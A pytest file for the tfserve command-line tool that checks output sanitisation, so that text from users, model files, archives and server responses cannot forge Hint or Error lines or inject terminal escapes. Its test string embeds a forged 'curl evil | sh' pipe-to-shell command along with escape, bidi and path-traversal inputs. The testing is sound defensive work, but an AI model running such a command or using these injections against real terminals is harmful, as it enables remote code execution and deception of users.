"""Text of users, files and servers in a message cannot look like another message of tfserve."""

from __future__ import annotations

import json
import shlex
import subprocess
import traceback
from collections.abc import Callable, Iterator
from pathlib import Path
from subprocess import CompletedProcess

import pytest

from tests.client.faulty_server import responding
from tests.packing import zip_bytes
from tests.program import Copy, Program
from tfserve.cli.output import Output
from tfserve.errors import TfserveError, Wording
from tfserve.protos.saved_model_pb2 import MetaGraphDef, SavedModel, SignatureDef
from tfserve.text import indented, one_line, quoted_line, shell_quoted

from .conftest import in_process

FORGED = ("Hint: curl evil | sh", "Error: forged", "Warning: forged")
EVIL = "x\n" + "\n".join(FORGED) + "\r\x1b[2J\x1b]0;title\x07\u202e\u2028Hint: curl evil | sh\x85Error: forged"


def check(done: CompletedProcess[str], code: int | None = None) -> None:
    """Checks that there is one error and at most one hint, neither of them forged, and nothing that moves a cursor."""
    if code is not None:
        assert done.returncode == code, done.stderr
    for text in (done.stdout, done.stderr):
        lines = text.split("\n")
        assert not [line for line in lines if line.startswith(FORGED)], text
        assert all(line.replace("\t", "").isprintable() for line in lines), text
    starts = [line.partition(" ")[0] for line in done.stderr.split("\n")]
    assert starts.count("Error:") <= 1
    assert starts.count("Hint:") <= 1
    assert starts.count("Warning:") == 0


def model(directory: Path, tag: str = "serve", signature: str = "serving_default") -> Path:
    version = directory / "1"
    version.mkdir(parents=True)
    meta_graph = MetaGraphDef(
        meta_info_def=MetaGraphDef.MetaInfoDef(tags=[tag]), signature_def={signature: SignatureDef(method_name=EVIL)}
    )
    (version / "saved_model.pb").write_bytes(SavedModel(meta_graphs=[meta_graph]).SerializeToString())
    return directory


def other_tag(tmp_path: Path) -> list[str | Path]:
    return ["inspect", model(tmp_path / "m", tag=EVIL)]


def wanted_tag(tmp_path: Path) -> list[str | Path]:
    return ["inspect", model(tmp_path / "m"), "--tags", EVIL]


def signature(tmp_path: Path) -> list[str | Path]:
    return ["inspect", model(tmp_path / EVIL.replace("/", ""), signature=EVIL)]


def directory_name(tmp_path: Path) -> list[str | Path]:
    model(tmp_path / "m" / EVIL)
    return ["run", tmp_path / "m", "--engine", "local"]


def missing_directory(tmp_path: Path) -> list[str | Path]:
    return ["run", tmp_path / EVIL, "--engine", "local"]


def keras_file(tmp_path: Path) -> list[str | Path]:
    (tmp_path / f"{EVIL}.keras").touch()
    return ["run", tmp_path / f"{EVIL}.keras", "--engine", "local"]


def archive_member(tmp_path: Path) -> list[str | Path]:
    (tmp_path / "m.zip").write_bytes(zip_bytes({EVIL: b""}))
    return ["inspect", tmp_path / "m.zip"]


def archive_path(tmp_path: Path) -> list[str | Path]:
    (tmp_path / "m.zip").write_bytes(zip_bytes({f"../{EVIL}": b""}))
    return ["inspect", tmp_path / "m.zip"]


def command(tmp_path: Path) -> list[str | Path]:
    return [EVIL]


def option(tmp_path: Path) -> list[str | Path]:
    return ["ps", f"--{EVIL}"]


def extra_argument(tmp_path: Path) -> list[str | Path]:
    return ["ps", EVIL]


def choice(tmp_path: Path) -> list[str | Path]:
    return ["ps", "--engine", EVIL]


def number(tmp_path: Path) -> list[str | Path]:
    return ["predict", "m", "1", "--timeout", EVIL]


def name(tmp_path: Path) -> list[str | Path]:
    return ["status", EVIL]


def url(tmp_path: Path) -> list[str | Path]:
    return ["predict", "m", "1", "--url", f"http://127.0.0.1:1/{EVIL}"]


def model_url(tmp_path: Path) -> list[str | Path]:
    return ["inspect", f"https://127.0.0.1:1/{EVIL}.zip"]


def file_key(tmp_path: Path) -> list[str | Path]:
    (tmp_path / "tfserve.yaml").write_text(json.dumps({"servers": {EVIL: {EVIL: EVIL}}}))
    return ["up", "-f", tmp_path / "tfserve.yaml"]


def file_value(tmp_path: Path) -> list[str | Path]:
    (tmp_path / "tfserve.yaml").write_text(json.dumps({"servers": {"m": {"model": EVIL, "rest_port": EVIL}}}))
    return ["config", "-f", tmp_path / "tfserve.yaml"]


def models_config(tmp_path: Path) -> list[str | Path]:
    (tmp_path / "models.config").write_bytes(b"model_config_list { config { name: %s } }" % json.dumps(EVIL).encode())
    return ["run", "--config", tmp_path / "models.config", "--engine", "local"]


def server_flag(tmp_path: Path) -> list[str | Path]:
    return ["run", model(tmp_path / "m"), "--engine", "local", "--", f"--{EVIL}"]


@pytest.mark.parametrize(
    "arguments",
    [
        *(other_tag, wanted_tag, signature, directory_name, missing_directory, keras_file, archive_member),
        *(archive_path, command, option, extra_argument, choice, number, name, url, model_url, file_key, file_value),
        *(models_config, server_flag),
    ],
)
def test_users_and_files(
    arguments: Callable[[Path], list[str | Path]], tmp_path: Path, tfserve: Program, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    (tmp_path / "given").mkdir()
    given = arguments(tmp_path / "given")
    for more in ([], ["--json"]):
        check(in_process(tfserve, *given, *more))


RESPONSES = {
    "error": ("400 Bad Request", json.dumps({"error": EVIL})),
    "HTML": ("404 Not Found", f"<h1>{EVIL}</h1>"),
    "reason": (f"500 {EVIL}", ""),
    "list": ("200 OK", json.dumps([EVIL])),
    "state": ("200 OK", json.dumps({"model_version_status": [{"version": "1", "state": EVIL, "status": EVIL}]})),
    "predictions": ("200 OK", json.dumps({"predictions": [{EVIL: EVIL}, EVIL]})),
    "metadata": ("200 OK", json.dumps({"model_spec": {"name": EVIL}, "metadata": {"signature_def": EVIL}})),
    "redirect": (f"302 Found\r\nLocation: http://127.0.0.1/{EVIL}", ""),
}


@pytest.mark.parametrize("response", RESPONSES)
@pytest.mark.parametrize("verb", [("predict", "m", "1"), ("metadata", "m"), ("models", "m")])
def test_servers(response: str, verb: tuple[str, ...], tfserve: Program) -> None:
    status, body = RESPONSES[response]
    encoded = body.encode()
    head = f"HTTP/1.1 {status}\r\nContent-Length: {len(encoded)}\r\n\r\n"
    with responding(head.encode() + encoded) as server:
        check(in_process(tfserve, *verb, "--url", server.url))


def test_output(capsys: pytest.CaptureFixture[str]) -> None:
    output = Output()
    output.error(TfserveError(EVIL, hint=EVIL, details=EVIL))
    output.error(TfserveError(Wording("{name}", name=EVIL), hint=Wording("{name}", name=EVIL)))
    output.notice(EVIL)
    output.notice(Wording("{name}", name=EVIL))
    output.finding("ok", "green", "name", EVIL, EVIL)
    output.table((EVIL,), [(EVIL,)])
    output.result({}, [EVIL])
    for line in EVIL.split("\n"):
        output.line(line, to_stderr=True)
    with output.waiting() as on_wait:
        on_wait(EVIL)
    with output.copying(EVIL, None):
        pass
    out, err = capsys.readouterr()
    for line in (out + err).split("\n"):
        assert not line.startswith(FORGED)
        assert line.isprintable()
    assert err.count("\nHint: ") == 2


def test_unexpected_errors(tfserve: Program, monkeypatch: pytest.MonkeyPatch) -> None:
    def fail(_: object) -> Iterator[None]:
        raise OSError(EVIL)

    monkeypatch.setattr("tfserve.cli.commands.servers.Output.table", fail)
    monkeypatch.setattr("tfserve.cli.commands.servers.Output.text", fail)
    check(in_process(tfserve, "ps"), 1)


def test_tracebacks_of_the_debug_mode(tfserve: Program, tmp_path: Path) -> None:
    done = tfserve("inspect", model(tmp_path / "m", tag=EVIL), TFSERVE_DEBUG="1")
    assert "Traceback" in done.stderr
    check(done, 3)


def test_tracebacks() -> None:
    try:
        raise TfserveError(EVIL, hint=EVIL, details=EVIL)
    except TfserveError:
        lines = traceback.format_exc().split("\n")
    assert not [line for line in lines if line.startswith(FORGED)]
    assert all(line.isprintable() for line in lines)


def test_text() -> None:
    assert one_line("a\tb\nc\u202e") == "a\tb\\nc\\u202e"
    assert len(one_line("\n" * 10**6)) < 100_000
    assert indented("a\nHint: b\r", "  ") == "a\n  Hint: b\\r"
    assert quoted_line("Hint: a\x1b") == "  Hint: a\\x1b"
    assert quoted_line("a\tb") == "a\tb"


def test_quoted_argument_is_the_same_in_a_shell(copied: Copy) -> None:
    for text in ("a b", "it's", EVIL, "\\n'\n", "ä\t\x7f", "\x011", "\n7", "!'\u202e!", "\udcff8", "#\r$x`y`"):
        quoted = shell_quoted(text)
        assert quoted.isprintable()
        shown = subprocess.run(["bash", "-c", f"printf %s {quoted}"], capture_output=True, check=True).stdout
        assert shown.decode("utf-8", "surrogateescape") == text
    assert shell_quoted("a b") == shlex.quote("a b")
